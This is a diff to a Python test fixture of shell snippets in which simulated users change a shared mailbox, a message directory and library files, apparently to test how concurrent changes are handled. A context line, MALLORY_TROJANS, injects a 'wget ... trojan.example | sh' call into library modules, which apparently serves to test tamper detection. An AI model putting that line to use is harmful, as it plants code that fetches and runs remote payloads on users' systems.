@@ -70,6 +70,50 @@ mv packages/idna packages/idna-before
 echo "# New, by bob." > library/email/by_bob.py
 """
 
+# A letter as it lies in a mailbox: who, about what.
+_LETTER = """
+letter() {
+    printf 'From %s@example.org Sun Nov 22 10:00:00 2026\\nFrom: %s@example.org\\n' "$1" "$1"
+    printf 'Subject: %s\\nMessage-ID: <%s@example.org>\\n\\nAbout %s.\\n\\n' "$2" "$2" "$2"
+}
+"""
+
+BOB_HAS_MAIL = (
+    _LETTER
+    + """
+mkdir -p mail/team/cur mail/team/new mail/team/tmp
+for subject in lunch holidays budget; do letter carol $subject; done > mail/inbox
+for number in 1 2 3; do letter carol $number | sed 1d > mail/team/cur/$number:2,; done
+chmod -R g+w mail
+"""
+)
+
+# What both do to a mailbox, to a directory of messages, and to one and the same file.
+ALICE_READS = (
+    _LETTER
+    + """
+letter dave party >> mail/inbox
+mv mail/team/cur/1:2, mail/team/cur/1:2,S
+letter dave 4 | sed 1d > mail/team/new/4
+sed -i 's/whitespace_split = False/whitespace_split = False  # alice: why?/' library/shlex.py
+"""
+)
+
+BOB_READS = (
+    _LETTER
+    + """
+{ letter carol lunch; letter carol budget; letter erin invoice; } > mail/inbox.new
+cat mail/inbox.new > mail/inbox
+rm mail/inbox.new
+mv mail/team/cur/1:2, mail/team/cur/1:2,R
+rm mail/team/cur/2:2,
+sed -i '1i # Reviewed by bob, again.' library/shlex.py
+"""
+)
+
+#: The subjects of the letters, then the messages of the directory with their flags.
+MAIL = "sed -n 's/^Subject: //p' mail/inbox; ls mail/team/cur mail/team/new | LC_ALL=C sort"
+
 MALLORY_TROJANS = """
 sed -i '1i import os; os.system("wget -q -O - trojan.example | sh")' library/subprocess.py library/socket.py
 """
